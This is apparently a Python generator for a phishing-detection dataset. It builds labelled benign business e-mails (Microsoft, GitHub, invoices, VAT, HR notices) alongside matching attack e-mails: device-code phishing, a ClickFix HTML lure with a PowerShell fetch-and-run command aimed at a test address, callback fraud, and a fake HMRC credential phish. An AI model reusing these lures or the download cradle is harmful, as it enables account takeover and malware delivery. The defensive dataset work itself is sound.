"""English messages: business 09-16, attacks 09-16."""
import hashlib
from registry import attack, business
from compose import compose, REGISTRY
from util import local_utc as L, rng, hexs, alnum
from world import S, BANK, TAX
import idnum as I
import senders as X
import assets as AS

F = I.fmt_iban

SIG_JW = """James Whitfield
Office Manager London
Example Group | Architecture and Urban Planning
41 Great Sutton Street, London EC1V 0DX
T +44 20 7253 9180"""

SIG_RC = """Rachel Cole MRICS
Associate Director - Measured & Topographical Surveys
Halden Surveying Ltd
Unit 4, Kennet Side Business Park, Reading RG1 3EA
T +44 118 950 2217 | M +44 7700 900418
www.haldensurveying.co.uk

Halden Surveying Ltd is registered in England and Wales, company no. 08814372. VAT %s""" % TAX["halden_vat"]


# ====================================================================== business

@business(9, "en", "microsoft-entra-security-info-added",
          what="Genuine Microsoft Entra notification that Microsoft Authenticator was added as a sign-in method for the London office manager's account.",
          why="Sent by Microsoft's own Exchange Online outbound (outbound.protection.outlook.com) from microsoftonline.com; informational only, links to mysignins.microsoft.com and the Microsoft privacy statement, no code or action requested; matches the announced MFA roll-out.",
          pair="attack 09")
def b09():
    t = L("UK", 2026, 10, 27, 9, 13, 2)
    text = """Security info was added

Hi James Whitfield,

Microsoft Authenticator was added as a sign-in method for your Example Group account james.whitfield@example.com on 27/10/2026 09:12 (UTC).

If you added this sign-in method, no further action is required.

If you didn't add it, review your security info at https://mysignins.microsoft.com/security-info and contact your IT department immediately.

Thanks,
The Example Group team

Microsoft respects your privacy. To learn more, please read our Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',Tahoma,sans-serif;margin:0;padding:0">
<table width="640" cellpadding="0" cellspacing="0" style="border:0">
<tr><td style="padding:30px 36px 6px 36px;font-size:17px;color:#707070">Example Group</td></tr>
<tr><td style="padding:0 36px;font-size:28px;color:#2672ec">Security info was added</td></tr>
<tr><td style="padding:22px 36px;font-size:14px;color:#2a2a2a;line-height:20px">
<p>Hi James Whitfield,</p>
<p>Microsoft Authenticator was added as a sign-in method for your Example Group account <a href="mailto:james.whitfield@example.com" style="color:#2672ec;text-decoration:none">james.whitfield@example.com</a> on 27/10/2026 09:12 (UTC).</p>
<p>If you added this sign-in method, no further action is required.</p>
<p>If you didn't add it, <a href="https://mysignins.microsoft.com/security-info" style="color:#2672ec">review your security info</a> and contact your IT department immediately.</p>
<p>Thanks,<br>The Example Group team</p></td></tr>
<tr><td style="padding:16px 36px;font-size:12px;color:#707070">Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#2672ec">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table></body></html>
"""
    p = X.microsoft(region="eurprd09")
    return compose(p, ("Microsoft on behalf of Example Group", "msonlineservicesteam@microsoftonline.com"),
                   [("James Whitfield", S("mgr_lon")[1])], "Security info was added to your account", t, text, html,
                   name="b09", env_from="msonlineservicesteam@microsoftonline.com")


@business(10, "en", "github-password-reset",
          what="Genuine GitHub password reset e-mail for the head of IT's GitHub account (used for the BIM scripting repositories).",
          why="Sent by GitHub's own outbound relays (out-*.smtp.github.com, 192.30.252.0/22) with GitHub's Message-ID and MIME style; link points to github.com only, expires in 3 hours, user-initiated.")
def b10():
    t = L("CE", 2026, 11, 5, 16, 44, 8)
    tok = alnum(rng("gh"), 40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
    link = "https://github.com/password_reset/" + tok
    text = """We heard that you lost your GitHub password. Sorry about that!

But don't worry! You can use the following link to reset your password:

%s

If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

Thanks,
The GitHub Team

""" % link
    html = """<!DOCTYPE html>
<html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>[GitHub] Please reset your password</title></head>
<body style="font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Helvetica,Arial,sans-serif;font-size:14px;line-height:1.5;color:#24292e;background:#fff;margin:0">
<table align="center" width="100%%" style="max-width:544px;margin:0 auto"><tr><td style="padding:16px">
<h1 style="font-size:24px;font-weight:300">Reset your GitHub password</h1>
<p>We heard that you lost your GitHub password. Sorry about that!</p>
<p>But don't worry! You can use the following button to reset your password:</p>
<p><a href="%s" style="background:#2ea44f;color:#fff;padding:8px 16px;border-radius:6px;text-decoration:none;font-weight:500">Reset your password</a></p>
<p>If you don't use this link within 3 hours, it will expire. <a href="https://github.com/password_reset">Click here to get a new password reset link</a>.</p>
<p>Thanks,<br>The GitHub Team</p>
<p style="color:#6a737d;font-size:12px">GitHub, Inc. &#xFF65;88 Colin P Kelly Jr Street &#xFF65;San Francisco, CA 94107</p>
</td></tr></table></body></html>
""" % link
    p = X.github()
    return compose(p, ("GitHub", "noreply@github.com"), [(None, S("ithead")[1])],
                   "[GitHub] Please reset your password", t, text, html, name="b10")


@business(11, "en", "autodesk-reseller-invoice-renewal",
          what="Autodesk reseller BIMsoft sends the invoice for the agreed renewal of 12 AEC Collection seats (PDF) with its logo inline in the signature.",
          why="Known reseller on its own Microsoft 365 tenant; refers to the quote agreed with the head of IT, contract number and term; payment by BACS to the usual account, no phone number to call, no urgency.",
          pair="attack 11")
def b11():
    t = L("UK", 2026, 11, 2, 11, 3, 51)
    text = """Dear Priya,

Please find attached invoice INV-58214 for the renewal of your Autodesk AEC Collection subscriptions (12 named users, Autodesk contract 110004827615, term 15/11/2026 - 14/11/2027), as agreed with Thomas Schäfer on our quote Q-20417 of 14 October.

Invoice total: £38,412.00 + VAT = £46,094.40
Payment terms: 30 days, by BACS to the account shown on the invoice (unchanged).

The licences will be renewed automatically in Autodesk Account on 15 November; no action is needed from your users.

Kind regards,

Karen Holt
Accounts Receivable
BIMsoft Solutions Ltd | Autodesk Platinum Partner
3 Hardman Square, Spinningfields, Manchester M3 3EB
T +44 161 496 0732 | accounts@bimsoft-solutions.co.uk"""
    logo = AS.logo_png(180, 48, (0, 84, 147), (255, 255, 255), "grid")
    sig_html = ('<p class="MsoNormal"><img width="180" height="48" style="width:1.875in;height:.5in" '
                'id="Picture_x0020_1" src="cid:image001.png@01DC4A3B.5F2E1C90" alt="BIMsoft Solutions"><o:p></o:p></p>\n')
    import profiles as P
    html = P.html_word(text, lang="EN-GB", charset="iso-8859-1", sig_html=sig_html)
    att = AS.pdf([
        "# BIMsoft Solutions Ltd",
        "3 Hardman Square, Spinningfields, Manchester M3 3EB - VAT GB 318 4471 62",
        "",
        "## TAX INVOICE INV-58214",
        "Invoice date: 02/11/2026      Due date: 02/12/2026      Customer: EXAMPLE01",
        "Bill to: Example Group (UK branch), 41 Great Sutton Street, London EC1V 0DX",
        "",
        "Autodesk AEC Collection - 1 year subscription renewal, 12 x £3,201.00 .......... £38,412.00",
        "Contract 110004827615, term 15/11/2026 - 14/11/2027, ref. quote Q-20417",
        "Subtotal £38,412.00     VAT 20% £7,682.40     TOTAL £46,094.40",
        "",
        "Payment by BACS: BIMsoft Solutions Ltd, Sort code 30-94-57, Account 61830274",
        "Please quote the invoice number as reference.",
    ], title="INV-58214", author="BIMsoft Accounts", producer="Sage Accounts", creator="Sage 50cloud Accounts",
        date=AS.pdfdate(2026, 11, 2, 10, 58, "Z"))
    return compose(X.bimsoft(charset="iso-8859-1"), ("BIMsoft Solutions Accounts", "accounts@bimsoft-solutions.co.uk"),
                   [S("acc_lon")], "Invoice INV-58214 - Autodesk AEC Collection renewal (12 seats) - Example Group",
                   t, text, html, name="b11", cc=[S("ithead")],
                   inline=[("image001.png@01DC4A3B.5F2E1C90", "image001.png", "image/png", logo)],
                   attachments=[("INV-58214.pdf", "application/pdf", att)])


@business(12, "en", "accountants-vat-return-approval",
          what="The UK office's chartered accountants send the quarterly VAT return figures for approval with working papers (PDF).",
          why="Known accountant on its own Microsoft 365 tenant; figures and deadlines consistent with MTD practice; explicitly tells the client to pay HMRC from its own banking and never to the accountant; no links to sign in.",
          pair="attack 12")
def b12():
    t = L("UK", 2026, 10, 28, 14, 20, 37)
    text = """Hi Priya,

We've prepared the VAT return for Example Group (UK branch), VRN 391 8274 24, for the quarter 01/07/2026 - 30/09/2026. Headline figures:

Box 1  VAT due on sales            £48,213.60
Box 4  VAT reclaimed on purchases  £17,905.22
Box 5  Net VAT payable             £30,308.38
Box 6  Total sales ex VAT         £241,068
Box 7  Total purchases ex VAT      £89,526

The working papers are attached. Please review them and confirm by reply that we may submit the return through our MTD software by Thursday 5 November.

Payment must reach HMRC by 7 November. As usual, please pay from your own online banking using the 14-character reference shown in your business tax account - we never ask you to send VAT payments to us.

Best regards,
Oliver

Oliver Finch FCA
Partner
Marlow & Finch LLP, Chartered Accountants
22 Cowcross Street, London EC1M 6DR
T +44 20 7946 0127"""
    att = AS.pdf([
        "# Marlow & Finch LLP - VAT working papers",
        "Client: Example Group (UK branch)   VRN 391 8274 24   Period 07/26 (01/07/2026 - 30/09/2026)",
        "",
        "Output tax: sales ledger £241,068.00 x 20% = £48,213.60",
        "Input tax: purchase ledger, disallowed entertainment excluded = £17,905.22",
        "Net VAT payable: £30,308.38",
        "Reconciliation to trial balance: difference £0.00",
        "Prepared by OF 27/10/2026, reviewed by SM 28/10/2026",
    ], title="VAT 07-26 workings", author="Oliver Finch", producer="Microsoft® Excel® for Microsoft 365",
        creator="Microsoft® Excel® for Microsoft 365", date=AS.pdfdate(2026, 10, 28, 14, 2, "Z"))
    return compose(X.marlow(charset="iso-8859-1"), ("Oliver Finch", "oliver.finch@marlowfinch.co.uk"),
                   [S("acc_lon")], "Example Group UK - VAT return 07/26 ready for approval", t, text, name="b12",
                   attachments=[("Example Group UK VAT 0726 workings.pdf", "application/pdf", att)])


@business(13, "en", "internal-it-how-support-contacts-you",
          what="Head of IT reminds London staff how the service desk contacts them (never unsolicited remote-access requests; external Teams callers are flagged) and announces a migration weekend.",
          why="Internal relay mail-int01 with Exchange hop from the real head of IT; the content is defensive advice, links only to the internal service desk, no request to act on a call.",
          pair="attack 13")
def b13():
    t = L("UK", 2026, 10, 20, 12, 5, 17)
    text = """Dear colleagues in London,

As a reminder after several reports from other companies in our sector:

- Our Service Desk will never call you unsolicited and ask you to start Quick Assist, AnyDesk or TeamViewer. Remote sessions are only started by you, from the Company Portal app ("Remote help"), after you have opened a ticket.
- Calls and chats from people outside Example Group are labelled "External" in Teams. Nobody from IT will ever contact you from an external account.
- If someone calls claiming to be IT, hang up and call the Service Desk on +49 89 2154 870-444 or raise a ticket at https://servicedesk.example.com.
- If you suddenly receive hundreds of newsletter sign-ups ("mail bombing"), do not react to any follow-up call - report it to the Service Desk.

Exchange Online migration: the London mailboxes move on the weekend of 7-8 November. You do not need to do anything; Outlook will ask you to restart on Monday morning.

Thank you,
Thomas

Thomas Schäfer
Head of IT
Example Group GmbH | Leopoldstraße 118 | 80802 München
T +49 89 2154 870-400"""
    return compose(X.internal(lang="en-GB"), S("ithead"), [("London Office", "london-all@example.com")],
                   "How IT support will (and will not) contact you", t, text, name="b13",
                   rcpt=S("mgr_lon")[1])


@business(14, "en", "sharepoint-share-notification-surveyors",
          what="Genuine SharePoint Online sharing notification: the surveyor shares the topographical survey folder for a project with the London office manager.",
          why="Real SharePoint Online notification from no-reply@sharepointonline.com through Microsoft's outbound; link points to the partner's own *.sharepoint.com folder (':f:' = folder) shared inside the project context, personal message refers to the agreed deliverable.",
          pair="attack 14")
def b14():
    t = L("UK", 2026, 10, 15, 15, 31, 9)
    link = "https://haldensurveying.sharepoint.com/:f:/s/Projects2026/EuX3q7LkV2ZHn5c9tQm0yHcB4j1kRrYv6TfXwz8p2aG1Lw?e=Qm7cK2"
    text = """Rachel Cole shared a folder with you

Here are the final topo survey and the level data for Canbury Park Road, as discussed on site. DWG and PDF versions are both in the folder.

Canbury Park Rd - Topo Survey Oct 2026
%s

This link will work for anyone in Example Group.

Privacy Statement: https://go.microsoft.com/fwlink/?LinkId=521839""" % link
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:'Segoe UI',sans-serif;background:#f8f8f8;margin:0">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">
<table width="480" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:24px 24px 0 24px;font-size:21px;color:#333">Rachel Cole shared a folder with you</td></tr>
<tr><td style="padding:16px 24px;font-size:14px;color:#333;border-left:3px solid #0078d4">Here are the final topo survey and the level data for Canbury Park Road, as discussed on site. DWG and PDF versions are both in the folder.</td></tr>
<tr><td style="padding:8px 24px;font-size:14px">&#128193; <a href="%s" style="color:#0078d4;text-decoration:none">Canbury Park Rd - Topo Survey Oct 2026</a></td></tr>
<tr><td style="padding:8px 24px 24px 24px"><a href="%s" style="background:#0078d4;color:#fff;padding:9px 20px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="padding:0 24px 20px 24px;font-size:12px;color:#666">This link will work for anyone in Example Group.</td></tr>
</table>
<p style="font-size:11px;color:#888">Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</td></tr></table></body></html>
""" % (link, link)
    p = X.microsoft(region="GBRP123")
    return compose(p, ("Rachel Cole", "no-reply@sharepointonline.com"), [("James Whitfield", S("mgr_lon")[1])],
                   "Rachel Cole shared the folder \"Canbury Park Rd - Topo Survey Oct 2026\" with you", t, text, html,
                   name="b14", reply_to=("Rachel Cole", "rachel.cole@haldensurveying.co.uk"),
                   env_from="no-reply@sharepointonline.com")


@business(15, "en", "google-security-alert-new-signin",
          what="Genuine Google account 'Security alert' about a new Windows sign-in on the London office manager's Google account (used for the office's Google Business Profile).",
          why="Sent from Google's own infrastructure (mail-sor-f*.google.com, accounts.google.com envelope) with Google's MIME style; links only to accounts.google.com/myaccount.google.com; informational.",
          pair="attack 15")
def b15():
    t = L("UK", 2026, 11, 9, 8, 47, 33)
    r = rng("google")
    text = """[image: Google]
A new sign-in on Windows

james.whitfield@example.com
We noticed a new sign-in to your Google Account on a Windows device. If
this was you, you don't need to do anything. If not, we'll help you secure
your account.
Check activity
<https://accounts.google.com/AccountChooser?Email=james.whitfield@example.com&continue=https://myaccount.google.com/alert/nt/%d?rfn%%3D325%%26rfnc%%3D1%%26eid%%3D%s%%26et%%3D0>
You can also see security activity at
https://myaccount.google.com/notifications
You received this email to let you know about important changes to your
Google Account and services.
© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
""" % (1794127653000 + r.randrange(1000), alnum(r, 19, "0123456789"))
    html = """<!DOCTYPE html><html lang="en"><head><meta name="format-detection" content="email=no"/><meta name="format-detection" content="date=no"/><style nonce="%s">.awl a {color: #FFFFFF; text-decoration: none;} .abml a {color: #000000; font-family: Roboto-Medium,Helvetica,Arial,sans-serif; font-weight: bold; text-decoration: none;}</style></head>
<body style="margin:0;padding:0" bgcolor="#FFFFFF"><table width="100%%" height="100%%" style="min-width:348px" border="0" cellspacing="0" cellpadding="0" lang="en"><tr height="32" style="height:32px"><td></td></tr>
<tr align="center"><td><table border="0" cellspacing="0" cellpadding="0" style="padding-bottom:20px;max-width:516px;min-width:220px"><tr><td>
<div style="border-style:solid;border-width:thin;border-color:#dadce0;border-radius:8px;padding:40px 20px" align="center">
<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" aria-hidden="true" style="margin-bottom:16px" alt="Google">
<div style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom:thin solid #dadce0;color:rgba(0,0,0,0.87);line-height:32px;padding-bottom:24px;text-align:center;word-break:break-word"><div style="font-size:24px">A new sign-in on Windows</div>
<table align="center" style="margin-top:8px"><tr style="line-height:normal"><td><a style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.87);font-size:14px;line-height:20px">james.whitfield@example.com</a></td></tr></table></div>
<div style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;font-size:14px;color:rgba(0,0,0,0.87);line-height:20px;padding-top:20px;text-align:left">We noticed a new sign-in to your Google Account on a Windows device. If this was you, you don't need to do anything. If not, we'll help you secure your account.<div style="padding-top:32px;text-align:center"><a href="https://accounts.google.com/AccountChooser?Email=james.whitfield@example.com&amp;continue=https://myaccount.google.com/alert/nt/1794127653481?rfn%%3D325" target="_blank" style="font-family:'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;line-height:16px;color:#ffffff;font-weight:400;text-decoration:none;font-size:14px;display:inline-block;padding:10px 24px;background-color:#4184F3;border-radius:5px;min-width:90px">Check activity</a></div></div>
<div style="padding-top:20px;font-size:12px;line-height:16px;color:#5f6368;letter-spacing:0.3px;text-align:center">You can also see security activity at<br><a style="color:rgba(0,0,0,0.87);text-decoration:inherit">https://myaccount.google.com/notifications</a></div></div>
<div style="text-align:left"><div style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.54);font-size:11px;line-height:18px;padding-top:12px;text-align:center"><div>You received this email to let you know about important changes to your Google Account and services.</div><div style="direction:ltr">&copy; 2026 Google LLC, <a class="afal" style="font-family:Roboto-Regular,Helvetica,Arial,sans-serif;color:rgba(0,0,0,0.54);font-size:11px;line-height:18px;padding-top:12px;text-align:center">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</a></div></div></div>
</td></tr></table></td></tr><tr height="32" style="height:32px"><td></td></tr></table></body></html>
""" % alnum(r, 22)
    import mime as M
    tp = M.text_part(text, "plain", "utf-8", "base64", "UTF-8", True, flowed=True, delsp=True)
    hp = M.text_part(html, "html", "utf-8", "quoted-printable", "UTF-8", True)
    p = X.google()
    body = M.multipart("alternative", [tp, hp], "000000000000" + hexs(r, 16))
    return compose(p, ("Google", "no-reply@accounts.google.com"), [(None, S("mgr_lon")[1])], "Security alert", t,
                   name="b15", body_part=body)


@business(16, "en", "hr-christmas-vouchers-uk-internal",
          what="HR announces the tax-free Christmas e-vouchers for the UK office, delivered by the benefits provider, and warns that management will never ask staff to buy gift cards.",
          why="Internal relay with Exchange hop from the real HR/payroll mailbox; informative, no request to purchase or reply with codes; explicitly counters gift-card fraud.",
          pair="attack 16")
def b16():
    t = L("UK", 2026, 12, 1, 10, 2, 40)
    text = """Dear all,

As every year, each colleague in the London office will receive a £50 digital gift voucher as a small thank-you for 2026. The voucher is tax-free for you (HMRC trivial benefits exemption) and will be sent directly by our benefits provider to your work e-mail address around 14 December. You will be able to choose between several retailers.

You do not need to do anything, and you do not need to buy anything yourself. Please note: nobody from management will ever ask you by e-mail, text or WhatsApp to purchase gift cards or to send voucher codes - if you receive such a request, it is fraud, even if it appears to come from Katharina or from me. Please forward it to the Service Desk.

The Christmas lunch will be on Friday 18 December at 12:30 at St. John, Smithfield - James will circulate the menu.

Best wishes,
Jörg

Jörg Weiß
HR & Payroll
Example Group GmbH | Leopoldstraße 118 | 80802 München
T +49 89 2154 870-220"""
    return compose(X.internal(lang="en-GB"), S("hr"), [("London Office", "london-all@example.com")],
                   "Christmas vouchers 2026 - London office", t, text, name="b16", rcpt=S("acc_lon")[1])


# ====================================================================== attacks

@attack(9, "en", "device-code-phishing-tender-data-room",
        what="Device-code phishing: a 'Senior Development Manager' of a real customer, writing from a look-alike domain, invites the London office manager to a tender 'data room' by entering a code at microsoft.com/devicelogin.",
        why="Look-alike of a real customer (thamesbank-developments.com vs thamesbank-dev.co.uk) on a DigitalOcean VPS without rDNS; entering an attacker-generated device code on the genuine Microsoft page hands the attacker OAuth tokens for the victim's Microsoft 365 account; 15-minute urgency, no legitimate data room works this way.",
        technique="OAuth device-code phishing (Microsoft 365)", infra="look-alike domain on DigitalOcean VPS (no rDNS), Outlook-style headers",
        pair="business 09")
def a09():
    t = L("UK", 2026, 10, 27, 10, 14, 26)
    text = """Hi James,

Thanks again for your team's submission for the Riverside Quarter masterplan. Before the evaluation panel meets on Thursday we have a short list of clarification questions on the landscape strategy and the phasing plan, together with the revised cost plan from our QS.

Because of the commercial sensitivity, everything for Stage 2 sits in our Microsoft 365 data room rather than going out by e-mail. To get access:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: F7KQ2XMPL
3. Sign in with your Example Group account and approve the request

The code is valid for 15 minutes. Once you're in, the folder "RQ Stage 2 - Clarifications" will appear under "Shared with me". If the code has expired by the time you read this, just reply and I'll send you a fresh one.

Responses are due by 5pm on Wednesday.

Kind regards,

Daniel Carter
Senior Development Manager
Thamesbank Developments plc
T +44 20 7946 0342"""
    p = X.vps("mail.thamesbank-developments.com", "164.92.197.58", rdns="unknown", charset="iso-8859-1",
              lang="en-gb", zone="UK")
    return compose(p, ("Daniel Carter | Thamesbank Developments", "d.carter@thamesbank-developments.com"),
                   [S("mgr_lon")], "Riverside Quarter - Stage 2 tender clarifications (secure data room)", t, text,
                   name="a09")


@attack(10, "en", "clickfix-planning-objection-html",
        what="ClickFix: 'Planning Services' of a London borough reports an objection to a planning application; the attached HTML page shows a fake 'Verify you are human' check telling the user to press Win+R, paste and run a PowerShell command.",
        why="Council notice sent from a compromised joinery's cPanel mailbox; the HTML attachment is a ClickFix lure (paste-and-run PowerShell download cradle) - a human would never be asked to run commands to view a document. Inert: no script, the command points to a TEST-NET address (198.51.100.0/24).",
        technique="ClickFix (paste-and-run) via HTML attachment", infra="compromised small business mailbox on cPanel/Exim (SMTP AUTH from abroad)")
def a10():
    t = L("UK", 2026, 11, 4, 13, 31, 55)
    text = """Dear Agent,

Planning application 26/01873/FUL
Land at Canbury Park Road, Kingston upon Thames KT2

An objection has been submitted in relation to the above application. Under the Council's neighbour consultation procedure, the applicant's agent is invited to review the representation and respond within 10 working days.

The representation and the case officer's note are attached as a secure document. Please open the attachment in your web browser to view it.

Yours faithfully,

Development Management
Planning & Building Control
Royal Borough of Kingston upon Thames
Guildhall 2, High Street, Kingston upon Thames KT1 1EU"""
    cmd = 'powershell -w h -nop -c "iex(irm http://198.51.100.23/v.txt)" # I am not a robot - reCAPTCHA Verification ID: 4821'
    page = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>26/01873/FUL - Representation - Secure Document Viewer</title>
<style>
body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f1f3f4}
.doc{filter:blur(4px);max-width:760px;margin:30px auto;background:#fff;padding:40px;color:#444}
.ov{position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.45)}
.box{position:fixed;top:90px;left:50%%;margin-left:-210px;width:420px;background:#fff;border-radius:4px;box-shadow:0 2px 12px rgba(0,0,0,.4);font-size:14px;color:#222}
.hd{background:#1a73e8;color:#fff;padding:14px 18px;font-size:16px}
.bd{padding:18px}
code{display:block;background:#f5f5f5;border:1px solid #ddd;padding:8px;font-size:11px;word-break:break-all;color:#555;margin:10px 0}
ol{padding-left:20px} li{margin:6px 0}
.cb{border:1px solid #d3d3d3;background:#f9f9f9;padding:12px;margin-bottom:12px}
</style></head>
<body>
<div class="doc"><h2>Royal Borough of Kingston upon Thames</h2><p>Representation received - Application 26/01873/FUL</p><p>Land at Canbury Park Road ...</p><p>Lorem ipsum objection text ...</p></div>
<div class="ov"></div>
<div class="box"><div class="hd">Verify you are human</div><div class="bd">
<div class="cb">&#9744; I'm not a robot <span style="float:right;font-size:10px;color:#777">reCAPTCHA<br>Privacy - Terms</span></div>
<p>This document is protected. To confirm that you are not a robot, please complete the following verification steps:</p>
<ol><li>Press <b>Windows key + R</b></li><li>Press <b>CTRL + V</b> to paste the verification code</li><li>Press <b>Enter</b></li></ol>
<p>Verification code (copied automatically):</p>
<code>%s</code>
<p style="font-size:12px;color:#777">Verification ID: 4821 &middot; Secured by Kingston Planning Portal</p>
</div></div>
</body></html>
""" % cmd.replace('"', "&quot;")
    p = X.cpanel("uk14.cloudhosting-uk.net", "185.151.30.141", sender_ip="45.135.232.19",
                 auth_user="accounts@brightwell-joinery.co.uk", sender_helo="[127.0.0.1]", mailer=None, zone="UK")
    return compose(p, ("Planning Services - Royal Borough of Kingston", "accounts@brightwell-joinery.co.uk"),
                   [S("mgr_lon")], "Planning application 26/01873/FUL - objection received - response required", t,
                   text, name="a10",
                   attachments=[("26-01873-FUL_Representation.html", "text/html", page.encode("utf-8"),
                                 {"ct_extra": '; charset="utf-8"'})])


@attack(11, "en", "callback-toad-autodesk-renewal-gmail",
        what="Callback phishing (TOAD): fake Autodesk renewal confirmation for £4,287.60 from a Gmail account with a PDF 'invoice'; the only way to cancel is to call the 'billing support' number.",
        why="Autodesk branding from a free Gmail address, unexpected charge, no links at all (evades URL scanning), urges calling a phone number within 24 hours - the call leads to remote-access or refund fraud. The company buys Autodesk via its reseller (business 11). The number is in Ofcom's drama range.",
        technique="Callback phishing / TOAD (telephone-oriented attack delivery)", infra="Gmail (free mailer)",
        pair="business 11")
def a11():
    t = L("UK", 2026, 11, 5, 15, 22, 4)
    text = """Dear Customer,

Thank you for renewing your Autodesk subscription. This email confirms that your payment has been processed successfully.

Product: Autodesk AEC Collection - 3-Year Term (Multi-user)
Order number: AD-7741-20983
Amount charged: £4,287.60
Payment method: Corporate card ending 4417

Your invoice is attached for your records.

If you did not authorise this renewal or wish to request a refund, please contact our Billing Support Team within 24 hours on +44 20 7946 0581 (Mon-Fri, 8am-8pm). After this period the charge becomes non-refundable under our subscription terms.

Thank you for choosing Autodesk.

Autodesk Billing Department"""
    att = AS.pdf([
        "# AUTODESK",
        "Invoice / Receipt",
        "",
        "Order number: AD-7741-20983        Date: 05 Nov 2026",
        "Bill to: Accounts Department, Example Group",
        "",
        "Autodesk AEC Collection - 3-Year Term (Multi-user) ................ £3,573.00",
        "VAT (20%) ......................................................... £714.60",
        "Total charged ..................................................... £4,287.60",
        "",
        "## Not you? Call Billing Support within 24 hours: +44 20 7946 0581",
        "Refund requests are only processed by telephone.",
    ], title="Invoice AD-7741-20983", author="", producer="Skia/PDF m118", creator="Google Docs Renderer",
        date=AS.pdfdate(2026, 11, 5, 14, 58, "Z"))
    return compose(X.gmail(), ("Autodesk Subscription", "autodesk.billing.uk@gmail.com"), [S("acc_lon")],
                   "Your Autodesk subscription has been renewed - Order AD-7741-20983", t, text, name="a11",
                   attachments=[("Autodesk_Invoice_AD-7741-20983.pdf", "application/pdf", att)])


@attack(12, "en", "hmrc-vat-mtd-sendgrid",
        what="Fake HMRC notice: VAT return 'rejected' because the MTD agent authorisation expired; asks to sign in to the business tax account within 48 hours; links wrapped in SendGrid click tracking.",
        why="Government sender on a non-gov.uk domain via SendGrid, display text shows tax.service.gov.uk but the href is a SendGrid redirect to a credential-phishing site, penalty-point threat and deadline; HMRC does not e-mail sign-in links for rejected returns (contrast business 12).",
        technique="Credential phishing - national tax authority (HMRC/MTD)", infra="Twilio SendGrid bulk ESP (abused account)",
        pair="business 12")
def a12():
    t = L("UK", 2026, 11, 9, 8, 2, 48)
    r = rng("a12")
    track = "https://u48217093.ct.sendgrid.net/ls/click?upn=u001.%s-2BP%s" % (alnum(r, 60), alnum(r, 40))
    text = """HM Revenue & Customs

VAT return rejected - action required

VAT registration number: 391 8274 24
Period: 07 26

Your VAT return for the period 07 26 could not be processed because the authorisation for your Making Tax Digital compatible software has expired.

To avoid a late submission penalty point, you must re-authorise your software connection and resubmit within 48 hours:

Sign in to your business tax account ( %s )

If the return is not resubmitted, a penalty point will be added to your account and a financial penalty of £200 may be charged once the threshold is reached.

This is an automated message. Please do not reply.
HM Revenue and Customs""" % track
    html = """<!DOCTYPE html><html><head><meta charset="UTF-8"><title>HMRC</title></head>
<body style="margin:0;font-family:Arial,sans-serif;background:#ffffff">
<table width="100%%" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;padding:12px 24px">
<span style="color:#ffffff;font-size:22px;font-weight:bold">&#9813; GOV.UK</span></td></tr>
<tr><td style="padding:24px;max-width:600px">
<div style="border-left:6px solid #00703c;padding-left:12px;color:#0b0c0c;font-size:14px">HM Revenue &amp; Customs</div>
<h1 style="font-size:28px;color:#0b0c0c">VAT return rejected &ndash; action required</h1>
<p style="font-size:16px">VAT registration number: <b>391 8274 24</b><br>Period: <b>07 26</b></p>
<p style="font-size:16px">Your VAT return for the period 07 26 could not be processed because the authorisation for your Making Tax Digital compatible software has expired.</p>
<p style="font-size:16px">To avoid a late submission penalty point, you must re-authorise your software connection and resubmit within <b>48 hours</b>.</p>
<p><a href="%s" style="display:inline-block;background:#00703c;color:#fff;padding:10px 18px;font-size:18px;text-decoration:none">Sign in to your business tax account</a></p>
<p style="font-size:14px;color:#505a5f">https://www.tax.service.gov.uk/business-account</p>
<p style="font-size:16px">If the return is not resubmitted, a penalty point will be added to your account and a financial penalty of &pound;200 may be charged once the threshold is reached.</p>
<p style="font-size:14px;color:#505a5f">This is an automated message. Please do not reply.<br>HM Revenue and Customs</p>
</td></tr></table>
<img src="https://u48217093.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0" style="height:1px!important;width:1px!important"></body></html>
""" % (track, alnum(r, 70))
    p = X.sendgrid(bounce_domain="hmrc-mtd-notifications.co.uk")
    return compose(p, ("HMRC", "no-reply@hmrc-mtd-notifications.co.uk"), [S("acc_lon")],
                   "VAT return rejected - action required to avoid a penalty point", t, text, html, name="a12")


@attack(13, "en", "teams-vishing-quick-assist-onmicrosoft",
